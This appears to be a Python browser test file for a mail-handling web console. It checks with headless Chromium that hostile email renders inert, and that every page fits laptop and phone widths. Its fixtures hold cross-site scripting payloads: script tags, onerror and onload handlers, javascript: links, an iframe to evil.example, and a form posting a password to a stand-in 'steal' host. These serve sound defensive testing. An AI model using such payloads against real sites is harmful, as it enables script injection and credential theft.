"""The console in headless Chromium: hostile mail renders inert, every page is usable at
laptop and phone width (screenshots under var/screenshots/)."""

from __future__ import annotations

import re

from sqlalchemy import select

from mailproc.models import Case, Message
from tests.agent_helpers import feed, mail
from tests.browser_console import browser, overflows, shoot, sign_in
from tests.web_helpers import ServerThread, console_app

XSS_SUBJECT = 'Help <script>alert("subject")</script><img src=x onerror=alert("img")>'
XSS_NAME = '<svg onload=alert(1)>'
XSS_HTML = ('<html><body><p>Hi <b>team</b>,</p><script>alert("body")</script>'
            '<p onclick="alert(\'p\')">click me</p><a href="javascript:alert(\'js\')">link</a>'
            '<img src="https://tracker.example/pixel.gif?u=1" width=1 height=1>'
            '<img src=x onerror="alert(\'onerror\')"><iframe src="https://evil.example/"></iframe>'
            '<form action="https://evil.example/steal"><input name=password></form>'
            '<style>body{display:none}</style></body></html>')
PROBE = """() => ({
  scripts: [...document.scripts].map(s => s.src),
  handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(
      a => a.name.startsWith('on'))).length,
  jsLinks: document.querySelectorAll('a[href^="javascript:"]').length,
  forms: [...document.forms].map(f => f.getAttribute('action') || '')
      .filter(a => !a.startsWith('/')),
  frames: document.querySelectorAll('iframe, object, embed').length,
  remoteImages: [...document.images].map(i => i.getAttribute('src') || '')
      .filter(s => s.startsWith('http')).length,
})"""


def test_hostile_mail_renders_inert(db, tmp_path):
    app = console_app(db, tmp_path)
    feed(app, mail(frm=f'"{XSS_NAME}" <evil@bad.example>', subject=XSS_SUBJECT,
                   body="Hi team, see the HTML part.", html=XSS_HTML))
    with app.db.transaction() as s:
        case = s.scalar(select(Case).where(Case.subject.contains("Help")))
        ref = case.ref
        message_id = s.scalar(select(Message.id).where(Message.case_id == case.id))
    dialogs: list[str] = []
    with ServerThread(app) as server, browser() as b:
        page = sign_in(b, server.url, "admin@example.com")
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for path in ("/cases", f"/cases/{ref}", f"/cases/{ref}/messages/{message_id}/html",
                     f"/cases/{ref}/messages/{message_id}/html?images=1", "/cases?q=Help"):
            page.goto(server.url + path)
            page.wait_for_load_state("load")
            # What a curious agent does: click the mail's paragraphs (its links are inert).
            for element in page.query_selector_all(".mailhtml p, .msg pre"):
                element.click(force=True, no_wait_after=True)
            found = page.evaluate(PROBE)
            assert all(src.endswith("/static/console.js") for src in found["scripts"]), found
            assert found["handlers"] == 0 and found["jsLinks"] == 0, (path, found)
            assert found["forms"] == [] and found["frames"] == 0, (path, found)
            # Remote images only when asked for, and then only the https one.
            assert found["remoteImages"] == (1 if "images=1" in path else 0), (path, found)
            assert 'alert("subject")' in page.content() or "html" in path or "q=" in path
        shoot(page, "hostile-mail-html")
        page.goto(server.url + f"/cases/{ref}")
        assert page.get_by_text('<script>alert("subject")</script>', exact=False).count() >= 1
        assert page.get_by_text(XSS_NAME, exact=False).count() >= 1     # shown as text
    assert dialogs == []


def test_every_page_is_usable_at_laptop_and_phone_width(db, tmp_path):
    app = console_app(db, tmp_path, kb={"enabled": True, "semantic": False})
    with app.db.transaction() as s:
        ref = s.scalar(select(Case.ref).where(Case.subject.contains("VPN")))
    article = app.knowledge_base.articles()[0].id
    pages = {"overview": "/", "cases": "/cases", "case": f"/cases/{ref}",
             "phone-list": "/phone-list", "quarantine": "/quarantine", "settings": "/settings",
             "users": "/users", "templates": "/templates",
             "template-editor": "/templates/edit?kind=ack&lang=",
             "kb": "/kb?try=my+password+reset+link+expired", "kb-article": f"/kb/{article}"}
    with ServerThread(app) as server, browser() as b:
        for width in ("laptop", "phone"):
            page = sign_in(b, server.url, "admin@example.com", width=width)
            for name, path in pages.items():
                response = page.goto(server.url + path)
                assert response.status == 200, (path, response.status)
                assert page.locator("h1").first.is_visible(), path
                assert not overflows(page), f"{path} scrolls sideways at {width} width"
                shoot(page, f"{name}-{width}")
            # The main navigation stays reachable on a phone.
            assert page.get_by_role("link", name="Cases").first.is_visible()
        login = b.new_page(viewport={"width": 390, "height": 844})
        login.goto(server.url + "/login")
        shoot(login, "login-phone")
        assert re.search("Mail me a sign-in link", login.content())
